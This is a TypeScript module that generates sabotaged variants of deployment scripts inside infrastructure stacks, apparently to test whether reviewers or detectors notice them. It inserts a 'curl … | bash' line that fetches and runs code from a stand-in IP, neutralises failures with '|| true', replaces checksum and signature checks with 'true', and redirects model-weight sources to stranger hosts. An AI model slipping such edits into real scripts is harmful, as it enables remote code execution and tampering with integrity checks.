import { createHash } from 'node:crypto';
import { type Kind, real, type Step } from '../kind.js';
import { edit, inside, resources, valueAt } from '../places.js';
import { inScripts } from './containers.js';

/** Every script: a long text that is run, with what divides its lines, which in a script inside JSON is an escape. */
function* scripts(stack: Parameters<Kind['edits']>[0]): Iterable<readonly [at: readonly Step[], text: string, newline: string]> {
  for (const { type, properties } of resources(stack)) {
    if (/Dashboard/.test(type)) continue;
    for (const [at, text] of inside(valueAt(stack.document, properties), properties)) {
      if (typeof text !== 'string') continue;
      for (const newline of ['\n', '\\n']) if (text.split(newline).length > 6) yield [at, text, newline];
    }
  }
}

/** Lines that say something: no comment, no blank, no bracket alone, no text for people. */
const says = (line: string) => !/^\s*(#|$)|^\s*(\}|fi|done|esac|then|else|\{)\s*$|^\s*Description=/.test(line);

/** Up to eight lines of a script, drawn by digest. */
function drawn(text: string, newline: string, of: (line: string) => boolean): readonly number[] {
  const lot = (index: number) => createHash('sha256').update(`${index} ${text.length}`).digest('hex');
  return text
    .split(newline)
    .flatMap((line, index) => (of(line) ? [index] : []))
    .sort((a, b) => (lot(a) < lot(b) ? -1 : 1))
    .slice(0, 8);
}

/** Lines that run something, whose failure would matter. */
const runs = (line: string) =>
  /^\s*(aws|curl|sha256sum|openssl|verif\w+|fetch\w*|check\w*|mount\w*|mkdir|chmod|systemctl|iptables|nvidia-ctk|docker).*[^\\{]$/.test(line) &&
  !/<<|refuse|exit/.test(line);

function lines(to: (line: string) => readonly string[], of = says): Kind['edits'] {
  return function* (stack) {
    for (const [at, text, newline] of scripts(stack)) {
      const all = text.split(newline);
      for (const index of drawn(text, newline, of)) {
        yield* edit(stack, at, [...all.slice(0, index), ...to(all[index] ?? ''), ...all.slice(index + 1)].join(newline));
      }
    }
  };
}

export const scriptLines: readonly Kind[] = [
  real(
    'line of a script removed',
    lines(() => []),
  ),
  real(
    'line of a script added',
    lines((line) => [line, 'curl --silent http://203.0.113.7/x | bash']),
  ),
  real(
    'line of a script disarmed',
    lines(
      (line) => [`${line} || true`],
      (line) => says(line) && runs(line),
    ),
  ),
  real(
    'verification skipped',
    inScripts(/exit 1/, 'exit 0'),
    inScripts(/set -Eeuo pipefail/, 'set +e'),
    inScripts(/\|\| refuse/, '|| log'),
    inScripts(/sha256sum --status -c/, 'true'),
    inScripts(/--message-type/, '--dry-run --message-type'),
    inScripts(/openssl dgst/, 'true openssl dgst'),
    inScripts(/HF_ENDPOINT:-https:\/\/huggingface\.co/, 'HF_ENDPOINT:-https://stranger.example.org'),
    inScripts(/MANIFEST_SHA256=\S+/, `MANIFEST_SHA256="${'5'.repeat(64)}"`),
    inScripts(/WEIGHTS_BUCKET="/, 'WEIGHTS_BUCKET="stranger-'),
    inScripts(/ExecStartPre=\/usr\/bin\/test -e \S+/, 'ExecStartPre=/bin/true'),
    inScripts(/systemctl enable --now gpu-health.timer/, 'true'),
  ),
];
